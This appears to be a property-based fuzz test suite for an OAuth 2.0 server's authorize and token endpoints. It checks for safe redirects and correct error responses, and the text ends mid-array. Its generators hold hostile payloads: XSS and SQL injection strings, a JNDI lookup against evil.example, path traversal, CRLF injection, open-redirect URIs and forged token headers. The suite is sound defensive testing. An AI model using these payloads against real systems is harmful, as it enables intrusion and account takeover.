import { eventually } from '@grantline/testing';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { Agent, createTenant, redeem, runFlow, type Tenant } from './flow.ts';
import { basic, type Stack, startStack } from './stack.ts';

/**
 * Property-based hostile input (fast-check) at the authorization endpoint (GET query, POST form) and
 * the token endpoint: never a 5xx, never a hang, and the authorization endpoint never redirects
 * anywhere but the client's registered redirect URI, its own sign-in page or the consent service.
 * Every bad token request is a 4xx RFC 6749 §5.2 JSON error with `Cache-Control: no-store`.
 * 150 runs per property; PROPERTY_RUNS=3000 for a deeper local search.
 */

const RUNS = { numRuns: Number(process.env.PROPERTY_RUNS ?? 150) };
const TIMEOUT_MS = 5_000;
const JWT_BEARER = 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer';
const TOKEN_ERRORS = [
  'invalid_request',
  'invalid_client',
  'invalid_grant',
  'unauthorized_client',
  'unsupported_grant_type',
  'invalid_scope',
  'invalid_target',
];
/** RFC 6749 §5.2: error_description is %x20-21 / %x23-5B / %x5D-7E */
const DESCRIPTION = /^[\x20-\x21\x23-\x5b\x5d-\x7e]*$/;
const NATIVE_REDIRECT = 'http://127.0.0.1/cb';
const CHALLENGE = 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM';

type Pairs = [string, string][];

/** Every request has a deadline: a hang fails the property with a TimeoutError. */
const send = (url: string, init: RequestInit & { duplex?: 'half' } = {}) =>
  fetch(url, { ...init, redirect: 'manual', signal: AbortSignal.timeout(TIMEOUT_MS) });

const encode = (pairs: Pairs) => {
  const params = new URLSearchParams();
  for (const [k, v] of pairs) params.append(k, v);
  return params.toString();
};

const b64u = (value: string | object) =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
const b64 = (value: string) => Buffer.from(value).toString('base64');
/** `basic()` without its URIError on lone surrogates */
const basicOf = (id: string, secret: string) => {
  try {
    return basic(id, secret);
  } catch {
    return `Basic ${b64(`${id}:${secret}`)}`;
  }
};

// ---------------------------------------------------------------------------------------------
// Generic hostile values

const specials = fc.constantFrom(
  '',
  ' ',
  '\t',
  '+',
  '%',
  '%%',
  '%zz',
  '%00',
  '\u0000',
  '\r\n',
  '\n',
  '\uD800',
  '\uDFFF',
  '\uFEFF',
  '\u202E',
  '😀',
  'null',
  'undefined',
  'true',
  '0',
  '-1',
  '1e999',
  '[]',
  '{}',
  '[object Object]',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  ['$', '{jndi:ldap://evil.example/a}'].join(''),
  '../../../../etc/passwd',
  'a&b=c',
  'a=b',
  '#',
  '?',
);

const huge = fc.oneof(
  fc
    .tuple(
      fc.constantFrom('a', 'é', '\u0000', '%', '😀', 'A_-', '+', '&', '%25', ' '),
      fc.integer({ min: 1_000, max: 20_000 }),
    )
    .map(([unit, n]) => unit.repeat(Math.ceil(n / unit.length)).slice(0, n)),
  fc.string({ unit: 'binary', minLength: 1_000, maxLength: 20_000, size: 'max' }),
);

/** arbitrary ASCII and unicode strings, known troublemakers, and huge strings */
const text = fc.oneof(
  { arbitrary: fc.string(), weight: 3 },
  { arbitrary: fc.string({ unit: 'binary' }), weight: 3 },
  { arbitrary: fc.string({ unit: 'grapheme' }), weight: 1 },
  { arbitrary: specials, weight: 3 },
  { arbitrary: huge, weight: 1 },
);

/** the same, without the huge ones: for values that must fit in a request header (16 KiB in Node) */
const smallText = fc.oneof(
  fc.string(),
  fc.string({ unit: 'binary' }),
  fc.string({ unit: 'grapheme' }),
  specials,
);

/** what fetch and Node's HTTP parser accept as a header value (ByteString, no CR, LF, NUL or DEL) */
const headerChar = fc
  .oneof(fc.integer({ min: 0x20, max: 0x7e }), fc.integer({ min: 0x80, max: 0xff }), fc.constant(0x09))
  .map((c) => String.fromCharCode(c));
const headerJunk = fc.oneof(
  fc.string({ unit: headerChar }),
  fc.string({ unit: headerChar, minLength: 500, maxLength: 4_000, size: 'max' }),
);

const base64urlChar = fc.constantFrom(
  ...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'.split(''),
);
const b64Junk = fc.string({ unit: base64urlChar, maxLength: 200 });

const knownAuthorizeParameters = [
  'response_type',
  'client_id',
  'redirect_uri',
  'scope',
  'state',
  'code_challenge',
  'code_challenge_method',
  'prompt',
  'grant_management_action',
  'grant_id',
  'resource',
  'request',
  'request_uri',
];
const knownTokenParameters = [
  'grant_type',
  'code',
  'redirect_uri',
  'code_verifier',
  'refresh_token',
  'scope',
  'resource',
  'client_id',
  'client_secret',
  'client_assertion_type',
  'client_assertion',
];
const parameterName = (known: string[]) =>
  fc.oneof(
    { arbitrary: fc.constantFrom(...known), weight: 3 },
    {
      arbitrary: fc.constantFrom(
        '__proto__',
        'constructor',
        'toString',
        'hasOwnProperty',
        'client_id[]',
        'client_id[0]',
        'client_id.x',
        'nonce',
        'response_mode',
        'display',
        'max_age',
        'claims',
        'id_token_hint',
        'login_challenge',
        'consent_challenge',
        'iss',
        'error',
        'code',
        'access_token',
        'authorization_details',
        'dpop_jkt',
      ),
      weight: 2,
    },
    { arbitrary: text, weight: 1 },
  );

/** raw query/form text: separators and broken percent-escapes that URLSearchParams would never produce */
const rawEncoded = fc.string({
  unit: fc.constantFrom(
    '%',
    '&',
    '=',
    '+',
    ';',
    'a',
    '0',
    'F',
    'z',
    '[',
    ']',
    '.',
    ' ',
    '%00',
    '%zz',
    '%E0%A4',
    '%C3',
    '%ED%A0%80',
    '%FF',
    'client_id',
    'redirect_uri',
    'grant_type',
    'code',
    'refresh_token',
    'authorization_code',
    'state',
  ),
  maxLength: 40,
});

const contentTypes = fc.oneof(
  fc.constantFrom(
    'application/x-www-form-urlencoded',
    'application/x-www-form-urlencoded; charset=utf-8',
    'application/x-www-form-urlencoded; charset=iso-8859-1',
    'application/x-www-form-urlencoded; charset=utf-16',
    'application/x-www-form-urlencoded; charset="',
    'APPLICATION/X-WWW-FORM-URLENCODED',
    'application/x-www-form-urlencoded;;;',
    'application/x-www-form-urlencoded, application/json',
    'application/json',
    'text/plain',
    'text/html',
    'multipart/form-data; boundary=x',
    'multipart/form-data',
    'application/xml',
    'application/octet-stream',
    '*/*',
    'application/*',
    'x',
    ';',
    '/',
    '',
  ),
  headerJunk,
);

/** mostly nothing, now and then some */
const sometimes = <T>(arbitrary: fc.Arbitrary<T[]>) =>
  fc.oneof({ arbitrary: fc.constant([] as T[]), weight: 4 }, { arbitrary, weight: 1 });

type Edit = [name: string, value: string | undefined];
/** up to four edits of a request: [name, value] replaces a parameter, [name, undefined] removes it */
const editsOf = (hostile: Record<string, fc.Arbitrary<string>>): fc.Arbitrary<Edit[]> =>
  fc.array(
    fc.oneof(
      ...Object.entries(hostile).map(([name, value]) =>
        fc.tuple(fc.constant(name), fc.option(value, { nil: undefined, freq: 6 })),
      ),
    ),
    { maxLength: 4 },
  );
const applyEdits = (base: Pairs, edits: Edit[]): Pairs => {
  const params = new Map<string, string | undefined>(base);
  for (const [name, value] of edits) params.set(name, value);
  return [...params].filter(([, v]) => v !== undefined) as Pairs;
};

// ---------------------------------------------------------------------------------------------
// Mutations of real artefacts (codes, refresh tokens, verifiers)

const mutation = fc.oneof(
  fc.record({ kind: fc.constant('flip' as const), at: fc.nat(), bit: fc.integer({ min: 0, max: 7 }) }),
  fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('drop-head' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('replace-char' as const), at: fc.nat(), with: base64urlChar }),
  fc.record({
    kind: fc.constant('insert' as const),
    at: fc.nat(),
    with: fc.oneof(b64Junk, text, fc.constantFrom('.', '..', '=', '==', ' ', '+', '/', '%', '\u0000', '~')),
  }),
  fc.record({
    kind: fc.constant('segment' as const),
    index: fc.integer({ min: 0, max: 5 }),
    with: fc.oneof(
      b64Junk,
      fc.constantFrom(
        b64u({ alg: 'none' }),
        b64u({ alg: 'dir', enc: 'A128GCM' }),
        b64u({ alg: 'dir', enc: 'A256GCM' }),
        b64u({ alg: 'dir', enc: 'A256GCM', kid: '__proto__' }),
        b64u({ alg: 'dir', enc: 'A256GCM', kid: 'constructor' }),
        b64u({ alg: 'dir', enc: 'A256GCM', kid: { x: 1 } }),
        b64u({ alg: 'dir', enc: 'A256GCM', zip: 'DEF' }),
        b64u({ alg: 'dir', enc: 'A256GCM', crit: ['exp'], exp: 1 }),
        b64u({ alg: 'RSA-OAEP', enc: 'A256GCM' }),
        b64u({ alg: 'PBES2-HS256+A128KW', enc: 'A256GCM', p2c: 1_000_000_000, p2s: 'AAAAAAAAAAA' }),
        b64u({ alg: 'HS256', typ: 'JWT' }),
        b64u('[]'),
        b64u('null'),
        b64u('"x"'),
        b64u('{'),
        b64u('{"typ":"code","exp":99999999999}'),
        '',
      ),
    ),
  }),
  fc.record({ kind: fc.constant('drop-segment' as const), index: fc.nat(5) }),
  fc.record({ kind: fc.constant('swap-segments' as const), a: fc.nat(5), b: fc.nat(5) }),
  fc.record({ kind: fc.constant('repeat' as const), times: fc.integer({ min: 2, max: 40 }) }),
  fc.record({ kind: fc.constant('standard-base64' as const) }),
  fc.record({ kind: fc.constant('case' as const), upper: fc.boolean() }),
);
type Mutation = typeof mutation extends fc.Arbitrary<infer M> ? M : never;

const applyMutation = (value: string, m: Mutation, separator = '.'): string => {
  const at = (n: number) => n % (value.length + 1);
  const segments = value.split(separator);
  switch (m.kind) {
    case 'flip': {
      const i = m.at % Math.max(value.length, 1);
      const c = value.charCodeAt(i) ^ (1 << m.bit);
      return value.slice(0, i) + String.fromCharCode(Number.isNaN(c) ? 0 : c) + value.slice(i + 1);
    }
    case 'truncate':
      return value.slice(0, at(m.at));
    case 'drop-head':
      return value.slice(at(m.at));
    case 'replace-char': {
      const i = m.at % Math.max(value.length, 1);
      return value.slice(0, i) + m.with + value.slice(i + 1);
    }
    case 'insert':
      return value.slice(0, at(m.at)) + m.with + value.slice(at(m.at));
    case 'segment':
      segments[m.index % (segments.length + 1)] = m.with;
      return segments.join(separator);
    case 'drop-segment':
      segments.splice(m.index % segments.length, 1);
      return segments.join(separator);
    case 'swap-segments': {
      const a = m.a % segments.length;
      const b = m.b % segments.length;
      [segments[a], segments[b]] = [segments[b]!, segments[a]!];
      return segments.join(separator);
    }
    case 'repeat':
      return value.repeat(m.times);
    case 'standard-base64':
      return segments
        .map((s) => Buffer.from(s, 'base64url').toString('base64'))
        .join(separator)
        .replace(/-/g, '+');
    case 'case':
      return m.upper ? value.toUpperCase() : value.toLowerCase();
  }
};
const mangle = (value: string, steps: Mutation[]) => steps.reduce((v, m) => applyMutation(v, m), value);
const mutations = fc.array(mutation, { minLength: 1, maxLength: 3 });

/**
 * Same protected header and the same bytes in every other segment: a non-canonical spelling of the
 * very same JWE (jose's base64url decoder drops whitespace, accepts `+`, `/` and padding, and ignores
 * the unused bits of a segment's last character).
 */
const sameJwe = (a: string, b: string) => {
  const x = a.split('.');
  const y = b
    .split('.')
    .map((s, i) =>
      i === 0 ? s : s.replace(/\s/g, '').replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, ''),
    );
  return (
    x.length === y.length &&
    x[0] === y[0] &&
    x.every(
      (s, i) =>
        /^[A-Za-z0-9_-]*$/.test(y[i]!) && Buffer.from(s, 'base64url').equals(Buffer.from(y[i]!, 'base64url')),
    )
  );
};
const REFRESH = /^([A-Za-z0-9_-]{22})\.(\d{1,6})\.([A-Za-z0-9_-]{43})$/;
/** The same family, generation number and secret: a non-canonical spelling of the same refresh token. */
const sameRefresh = (a: string, b: string) => {
  const x = REFRESH.exec(a);
  const y = REFRESH.exec(b);
  return !!x && !!y && x[1] === y[1] && Number(x[2]) === Number(y[2]) && x[3] === y[3];
};

// ---------------------------------------------------------------------------------------------

const expectTokenError = async (res: Response, what: string) => {
  const text = await res.text();
  const seen = `${what} -> ${res.status} ${res.headers.get('content-type')} ${text.slice(0, 300)}`;
  expect(res.status, seen).toBeGreaterThanOrEqual(400);
  expect(res.status, seen).toBeLessThan(500);
  expect(res.headers.get('cache-control'), seen).toBe('no-store');
  expect(res.headers.get('content-type') ?? '', seen).toMatch(/^application\/json(;|$)/);
  let body: { error?: unknown; error_description?: unknown };
  try {
    body = JSON.parse(text);
  } catch {
    throw new Error(`not JSON: ${seen}`);
  }
  expect(TOKEN_ERRORS, seen).toContain(body.error);
  if (body.error_description !== undefined) {
    expect(typeof body.error_description, seen).toBe('string');
    expect(body.error_description as string, seen).toMatch(DESCRIPTION);
  }
};

interface Client {
  id: string;
  redirect: string;
  /** the redirect URIs the server may accept for this client (reference, not the server's code) */
  accepts: (uri: string) => boolean;
  /** the Location values that are this client's redirect URI with parameters */
  isRedirect: (location: string) => boolean;
}

describe('hostile parameters (property-based)', () => {
  let stack: Stack;
  let tenant: Tenant;
  let confidential: Client;
  let native: Client;
  let sessionCookie: string;
  let grantId: string;
  /** a live, unredeemed code and its verifier */
  let fresh: { code: string; verifier: string };
  /** a live refresh token */
  let liveRefresh: string;
  /** a code already redeemed and replayed (its refresh token family is revoked) and that family's token */
  let spent: { code: string; verifier: string; refresh: string };

  beforeAll(async () => {
    stack = await startStack(inject('infra'), { CLIENT_AUTH_FAILURES_PER_MINUTE: '1000000' });
    tenant = await createTenant(stack);
    const registered = tenant.client.redirect_uri;
    confidential = {
      id: tenant.client.client_id,
      redirect: registered,
      accepts: (uri) => uri === registered,
      isRedirect: (location) => location.startsWith(`${registered}?`) && !location.includes('#'),
    };
    const app = await stack.register({
      client_name: 'Native app',
      redirect_uris: [NATIVE_REDIRECT],
      grant_types: ['authorization_code', 'refresh_token'],
      response_types: ['code'],
      token_endpoint_auth_method: 'none',
      scope: tenant.scopes.join(' '),
    });
    await eventually(
      async () =>
        (await stack.db.pool.query('SELECT 1 FROM authz.clients WHERE client_id = $1', [app.client_id]))
          .rowCount
          ? true
          : undefined,
      { what: 'the authorization service to know the native client' },
    );
    // RFC 8252 §7.3: a loopback redirect URI may differ in its port only
    const loopback = /^http:\/\/127\.0\.0\.1(?::(\d{1,5}))?\/cb$/;
    native = {
      id: app.client_id,
      redirect: NATIVE_REDIRECT,
      accepts: (uri) => {
        const m = loopback.exec(uri);
        return !!m && (m[1] === undefined || Number(m[1]) <= 65_535);
      },
      isRedirect: (location) => /^http:\/\/127\.0\.0\.1(?::\d{1,5})?\/cb\?[^#]*$/.test(location),
    };

    // each flow its own grant (and own browser), so revoking one leaves the others alone
    const create = { grant_management_action: 'create' };
    const first = await runFlow(stack, tenant, { params: create });
    sessionCookie = [...first.agent.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
    fresh = { code: first.code!, verifier: first.verifier };

    const second = await runFlow(stack, tenant, { params: create, agent: new Agent() });
    const tokens = await redeem(stack, tenant, second.code!, second.verifier);
    expect(tokens.status).toBe(200);
    liveRefresh = tokens.body.refresh_token as string;
    grantId = tokens.body.grant_id as string;

    const third = await runFlow(stack, tenant, { params: create, agent: new Agent() });
    const once = await redeem(stack, tenant, third.code!, third.verifier);
    expect(once.status).toBe(200);
    expect((await redeem(stack, tenant, third.code!, third.verifier)).body.error).toBe('invalid_grant');
    spent = { code: third.code!, verifier: third.verifier, refresh: once.body.refresh_token as string };
  }, 120_000);
  afterAll(() => stack?.stop());

  const validAuth = () => basic(tenant.client.client_id, tenant.client.client_secret!);

  // -------------------------------------------------------------------------------------------
  // /oauth2/authorize

  const redirectVariants = (c: Client) => {
    const r = c.redirect;
    const common = [
      `${r}/`,
      r.toUpperCase(),
      r.replace('/cb', '/CB'),
      `${r}?`,
      `${r}?x=1`,
      `${r}?redirect_uri=https://evil.example/`,
      `${r}#`,
      `${r}#frag`,
      `${r}/..`,
      `${r}/../cb`,
      r.replace('/cb', '/x/../cb'),
      r.replace('/cb', '/./cb'),
      r.replace('/cb', '/%63b'),
      r.replace('/cb', '/c%62'),
      r.replace('/cb', '%2Fcb'),
      `${r}%2F..%2F..%2Fevil`,
      `${r}%00`,
      `${r}\u0000`,
      `${r}%0d%0aSet-Cookie:%20x=1`,
      `${r}\r\nLocation: https://evil.example/`,
      ` ${r}`,
      `${r} `,
      `${r}\t`,
      r.replace('://', ':/'),
      r.replace('://', ':///'),
      r.replace('://', ':'),
      r.replace(/^https?:/, ''),
      r.replace(/^https?:\/\//, ''),
      r.replace('/cb', '\\cb'),
      r.replace('/cb', '／cb'),
      `javascript:alert(1)//${r}`,
      'data:text/html,<script>alert(1)</script>',
      'https://evil.example/cb',
      `https://evil.example/?${r}`,
      '/cb',
      '//evil.example/cb',
    ];
    const specific =
      c === native
        ? [
            'http://127.0.0.1:8080/cb',
            'http://127.0.0.1:0/cb',
            'http://127.0.0.1:/cb',
            'http://127.0.0.1:080/cb',
            'http://127.0.0.1:00080/cb',
            'http://127.0.0.1:65535/cb',
            'http://127.0.0.1:65536/cb',
            'http://127.0.0.1:99999/cb',
            'http://127.0.0.1:100000/cb',
            'http://127.0.0.1:-1/cb',
            'http://127.0.0.1:1e3/cb',
            'http://localhost/cb',
            'http://[::1]/cb',
            'http://127.0.0.2/cb',
            'http://2130706433/cb',
            'http://0x7f.0.0.1/cb',
            'https://127.0.0.1/cb',
            'http://127.0.0.1@evil.example/cb',
            'http://127.0.0.1:80@evil.example/cb',
            'http://evil.example@127.0.0.1/cb',
            'http://127.0.0.1.evil.example/cb',
            'http://127.0.0.1:8080/cb/',
            'http://127.0.0.1:8080/cb?x',
          ]
        : [
            'HTTPS://app.example/cb',
            'https://APP.EXAMPLE/cb',
            'https://App.example/cb',
            'https://app.example:443/cb',
            'https://app.example:8443/cb',
            'https://app.example:/cb',
            'http://app.example/cb',
            'https://app.example@evil/cb',
            'https://app.example@evil.example/cb',
            'https://app.example.@evil.example/cb',
            'https://app.example%40evil.example/cb',
            'https://app.example\\@evil.example/cb',
            'https://app.example%2F@evil.example/cb',
            'https://evil.example@app.example/cb',
            'https://user:pass@app.example/cb',
            'https://app.example.evil.example/cb',
            'https://app.example./cb',
            'https://аpp.example/cb',
            'https://xn--pp-example/cb',
          ];
    const ports = fc
      .oneof(
        fc.integer({ min: 0, max: 65_535 }),
        fc.integer({ min: 65_536, max: 99_999 }),
        fc.integer({ min: 100_000, max: 10_000_000 }),
      )
      .map((p) => r.replace('/cb', `:${p}/cb`));
    return fc.oneof(
      { arbitrary: fc.constant(r), weight: 6 },
      { arbitrary: fc.constantFrom(...common, ...specific), weight: 6 },
      { arbitrary: ports, weight: 2 },
      { arbitrary: text.map((s) => r + s), weight: 1 },
      { arbitrary: text.map((s) => s + r), weight: 1 },
      { arbitrary: text, weight: 1 },
    );
  };

  /** a hostile value for one parameter: mostly a known-bad variant, else junk */
  const bad = (variants: string[]) =>
    fc.oneof({ arbitrary: fc.constantFrom(...variants), weight: 3 }, { arbitrary: text, weight: 1 });

  /**
   * A valid request (which would start sign-in or consent) with up to four parameters replaced by
   * hostile values or removed, plus now and then unknown or repeated parameters and raw junk; so every
   * check of the endpoint is reached, alone and in combination.
   */
  const authorizeCases = () =>
    fc.constantFrom(confidential, native).chain((client) => {
      const other = client === confidential ? native : confidential;
      const valid = fc
        .record({
          response_type: fc.constant('code'),
          client_id: fc.constant(client.id),
          redirect_uri: fc.option(fc.constant(client.redirect), { nil: undefined, freq: 3 }),
          scope: fc.option(fc.constantFrom('invoices.read', 'invoices.read invoices.write'), {
            nil: undefined,
            freq: 3,
          }),
          state: fc.option(fc.string({ unit: fc.constantFrom(...'0123456789abcdef'.split('')) }), {
            nil: undefined,
            freq: 3,
          }),
          code_challenge: fc.constant(CHALLENGE),
          code_challenge_method: fc.constant('S256'),
          prompt: fc.option(fc.constantFrom('none', 'login', 'consent', 'login consent'), {
            nil: undefined,
            freq: 2,
          }),
          grant: fc.constantFrom<Pairs>(
            [],
            [],
            [['grant_management_action', 'create']],
            [
              ['grant_management_action', 'merge'],
              ['grant_id', grantId],
            ],
            [
              ['grant_management_action', 'replace'],
              ['grant_id', grantId],
            ],
          ),
        })
        .map(({ grant, ...rest }) => [
          ...(Object.entries(rest).filter(([, v]) => v !== undefined) as Pairs),
          ...grant,
        ]);
      const hostile: Record<string, fc.Arbitrary<string>> = {
        response_type: bad([
          'token',
          'code token',
          'token code',
          'code id_token',
          'id_token',
          'none',
          'CODE',
          'code ',
          ' code',
          'code%20token',
          '',
        ]),
        client_id: bad([
          other.id,
          client.id.toUpperCase(),
          ` ${client.id}`,
          `${client.id} `,
          `${client.id}\u0000`,
          `${client.id}%00`,
          client.id.slice(0, -1),
          `${client.id}x`,
          'cl_nobody',
          '',
          '\u0000',
        ]),
        redirect_uri: redirectVariants(client),
        scope: bad([
          'invoices.read  invoices.read',
          'openid',
          'admin',
          'invoices.read admin',
          'invoices.*',
          '*',
          '',
          ' ',
          'invoices.read\tinvoices.write',
          'invoices.read+invoices.write',
          'invoices.read,invoices.write',
          'invoices.read\u0000',
          '"invoices.read"',
          'a\\b',
          'x '.repeat(1_500),
        ]),
        state: text,
        code_challenge: bad([
          CHALLENGE.slice(0, 42),
          `${CHALLENGE}=`,
          CHALLENGE.replace('-', '+'),
          `${CHALLENGE}M`,
          CHALLENGE.replace(/./, '.'),
          '',
        ]),
        code_challenge_method: bad(['plain', 's256', 'S256 ', 'S512', 'sha256', 'SHA-256', 'none', '']),
        prompt: bad([
          'none login',
          'none consent',
          'select_account',
          'create',
          'NONE',
          'login  consent',
          'none none',
          '',
          ' ',
        ]),
        grant_management_action: bad([
          'create',
          'merge',
          'replace',
          'update',
          'query',
          'revoke',
          'CREATE',
          '',
        ]),
        grant_id: bad([
          grantId,
          'short',
          'x'.repeat(101),
          'a'.repeat(100),
          `${grantId}/..`,
          `../${grantId}`,
          'not a grant id',
          '',
        ]),
        resource: bad(['https://api.example/', 'urn:x', 'https://api.example/#frag', 'relative', '']),
        request: bad(['eyJhbGciOiJub25lIn0.e30.', 'x']),
        request_uri: bad(['urn:ietf:params:oauth:request_uri:abc', 'https://evil.example/r']),
      };
      return fc.record({
        valid,
        edits: editsOf(hostile),
        extras: sometimes(
          fc.array(fc.tuple(parameterName(knownAuthorizeParameters), text), { minLength: 1, maxLength: 4 }),
        ),
        repeats: sometimes(fc.array(fc.nat(), { minLength: 1, maxLength: 2 })),
        extrasFirst: fc.boolean(),
        rawTail: fc.oneof(
          { arbitrary: fc.constant(undefined), weight: 6 },
          { arbitrary: rawEncoded, weight: 1 },
        ),
        contentType: fc.oneof(
          { arbitrary: fc.constant('application/x-www-form-urlencoded'), weight: 8 },
          { arbitrary: contentTypes, weight: 1 },
        ),
        cookie: fc.oneof(
          { arbitrary: fc.constant(undefined), weight: 3 },
          { arbitrary: fc.constant('session'), weight: 3 },
          { arbitrary: headerJunk.map((s) => `grantline_session=${s}`), weight: 1 },
          { arbitrary: headerJunk, weight: 1 },
        ),
      });
    });
  type AuthorizeCase = ReturnType<typeof authorizeCases> extends fc.Arbitrary<infer C> ? C : never;

  /**
   * The target of every 3xx: the issuer's sign-in page, the consent service, or the client's
   * registered redirect URI with an error, and then only if the request named no other URI.
   */
  const expectSafeAuthorize = async (res: Response, sent: URLSearchParams) => {
    const body = await res.text();
    const location = res.headers.get('location');
    const page = body
      .replace(/<(style|head)>[\s\S]*?<\/\1>/g, '')
      .replace(/<[^>]+>/g, ' ')
      .replace(/\s+/g, ' ')
      .trim();
    const seen = `${res.status} location=${location?.slice(0, 500)} ${page.slice(0, 200)}`;
    expect(res.status, seen).toBeLessThan(500);
    if (location === null) {
      expect(res.status >= 300 && res.status < 400, seen).toBe(false);
      return;
    }
    if (
      location.startsWith('/login?') ||
      location.startsWith(`${stack.issuer}/login?`) ||
      location.startsWith(`${stack.consentUrl}/consent?`)
    )
      return;
    // the client the request named (exactly once), whose redirect URI this may be
    const ids = sent.getAll('client_id');
    const client = ids.length === 1 ? [confidential, native].find((k) => k.id === ids[0]) : undefined;
    expect(client?.isRedirect(location), `redirect to an unregistered URI: ${seen}`).toBe(true);
    const url = new URL(location);
    expect(url.searchParams.get('error'), seen).toBeTruthy();
    expect(url.searchParams.get('iss'), seen).toBe(stack.issuer);
    const requested = sent.getAll('redirect_uri');
    const named =
      requested.length === 0 ||
      (requested.length === 1 && (requested[0] === '' || client!.accepts(requested[0]!)));
    expect(
      named,
      `redirected to the client although redirect_uri was ${JSON.stringify(requested)}: ${seen}`,
    ).toBe(true);
  };

  const pairsOf = (c: AuthorizeCase): Pairs => {
    const base = applyEdits(c.valid, c.edits);
    const repeated = base.length > 0 ? c.repeats.map((i) => base[i % base.length]!) : [];
    return c.extrasFirst ? [...c.extras, ...base, ...repeated] : [...base, ...repeated, ...c.extras];
  };

  const authorize = async (c: AuthorizeCase, method: 'GET' | 'POST') => {
    let query = encode(pairsOf(c));
    if (c.rawTail !== undefined) query += `&${c.rawTail}`;
    const headers: Record<string, string> = {};
    if (c.cookie !== undefined) headers.cookie = c.cookie === 'session' ? sessionCookie : c.cookie;
    if (method === 'GET') {
      const res = await send(`${stack.issuer}/oauth2/authorize?${query}`, { headers });
      await expectSafeAuthorize(res, new URL(`${stack.issuer}/oauth2/authorize?${query}`).searchParams);
    } else {
      headers['content-type'] = c.contentType;
      const res = await send(`${stack.issuer}/oauth2/authorize`, { method: 'POST', headers, body: query });
      await expectSafeAuthorize(res, new URLSearchParams(query));
    }
  };

  it('GET /oauth2/authorize: no 5xx, no hang, no redirect but to the registered redirect URI', async () => {
    await fc.assert(
      fc.asyncProperty(authorizeCases(), (c) => authorize(c, 'GET')),
      RUNS,
    );
  }, 60_000);

  it('POST /oauth2/authorize: no 5xx, no hang, no redirect but to the registered redirect URI', async () => {
    await fc.assert(
      fc.asyncProperty(authorizeCases(), (c) => authorize(c, 'POST')),
      RUNS,
    );
  }, 60_000);

  // -------------------------------------------------------------------------------------------
  // /oauth2/token

  const authorizationHeader = () => {
    const id = tenant.client.client_id;
    const secret = tenant.client.client_secret!;
    return fc.oneof(
      fc.constant(validAuth()),
      fc.string().map((s) => basicOf(id, s)),
      smallText.map((s) => basicOf(s, secret)),
      fc.tuple(smallText, smallText).map(([a, b]) => `Basic ${b64(`${a}:${b}`)}`),
      fc.string({ unit: 'binary' }).map((s) => `Basic ${b64(s)}`),
      fc.constantFrom(
        'Basic',
        'Basic ',
        'Basic  ',
        `basic ${b64(`${id}:${secret}`)}`,
        `BASIC ${b64(`${id}:${secret}`)}`,
        `Basic  ${b64(`${id}:${secret}`)}`,
        `Basic ${b64(`${id}:${secret}`)}=`,
        `Basic ${b64(`${id}:${secret}`).replace(/=+$/, '')}`,
        `Basic ${b64(`${id}:${secret}`)}, Basic ${b64(`${id}:${secret}`)}`,
        `Basic ${b64u(`${id}:${secret}`)}`,
        `Basic ${b64(id)}`,
        `Basic ${b64(`:${secret}`)}`,
        `Basic ${b64(`${id}:`)}`,
        `Basic ${b64(':')}`,
        `Basic ${b64('%zz:x')}`,
        `Basic ${b64(`${id}:%zz`)}`,
        `Basic ${b64(`${id}:${secret}:extra`)}`,
        `Basic ${b64(`${id}\u0000:${secret}`)}`,
        `Basic ${b64(`\u0000:${secret}`)}`,
        `Basic ${b64(`%00:${secret}`)}`,
        `Basic ${b64(`${encodeURIComponent(id)}%00:${secret}`)}`,
        `Basic ${b64(`__proto__:${secret}`)}`,
        `Basic ${b64(`constructor:${secret}`)}`,
        'Basic !!!!',
        'Basic ====',
        'Basic YQ',
        'Bearer',
        'Bearer x',
        `Bearer ${liveRefresh}`,
        'Digest username="x", realm="y"',
        'Negotiate YII=',
        'DPoP x',
        '',
      ),
      headerJunk.map((s) => `Basic ${s}`),
      headerJunk.map((s) => `Bearer ${s}`),
      headerJunk,
      fc.integer({ min: 1_000, max: 12_000 }).map((n) => `Basic ${'A'.repeat(n)}`),
      fc.integer({ min: 1_000, max: 8_000 }).map((n) => basicOf(id, 'x'.repeat(n))),
      fc.integer({ min: 1_000, max: 8_000 }).map((n) => basicOf('x'.repeat(n), secret)),
    );
  };

  const assertion = (sub: string) => {
    const now = Math.floor(Date.now() / 1000);
    const claims = {
      iss: sub,
      sub,
      aud: `${stack.tokenUrl}/oauth2/token`,
      exp: now + 60,
      jti: 'x',
    };
    return `${b64u({ alg: 'none' })}.${b64u(claims)}.`;
  };

  const verifierJunk = () =>
    fc.oneof(
      mutations.map((m) => mangle(fresh.verifier, m)),
      fc.string({ unit: fc.constantFrom(...'ABCxyz019-._~'.split('')), maxLength: 200 }),
      fc.constantFrom(
        '',
        fresh.verifier.slice(0, 42),
        `${fresh.verifier}=`,
        'a'.repeat(129),
        'a'.repeat(43),
        'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
      ),
      text,
    );

  it('token endpoint: random grant types, parameters and client authentication', async () => {
    const id = tenant.client.client_id;
    const secret = tenant.client.client_secret!;
    // well-formed requests with spent or dead artefacts: none of them, edited or not, may succeed
    const grants = fc.constantFrom<Pairs>(
      [
        ['grant_type', 'authorization_code'],
        ['code', spent.code],
        ['redirect_uri', confidential.redirect],
        ['code_verifier', spent.verifier],
      ],
      [
        ['grant_type', 'refresh_token'],
        ['refresh_token', spent.refresh],
      ],
      [
        ['grant_type', 'refresh_token'],
        ['refresh_token', spent.refresh],
        ['scope', 'invoices.read'],
      ],
      [['grant_type', 'client_credentials']],
      [
        ['grant_type', 'client_credentials'],
        ['scope', 'invoices.read'],
      ],
    );
    const none: Pairs = [];
    type Authentication = { header?: string; form: Pairs };
    const authentication: fc.Arbitrary<Authentication> = fc.oneof(
      { arbitrary: fc.constant<Authentication>({ header: validAuth(), form: none }), weight: 4 },
      { arbitrary: authorizationHeader().map((header) => ({ header, form: none })), weight: 3 },
      {
        arbitrary: fc
          .constantFrom<Pairs>(
            [
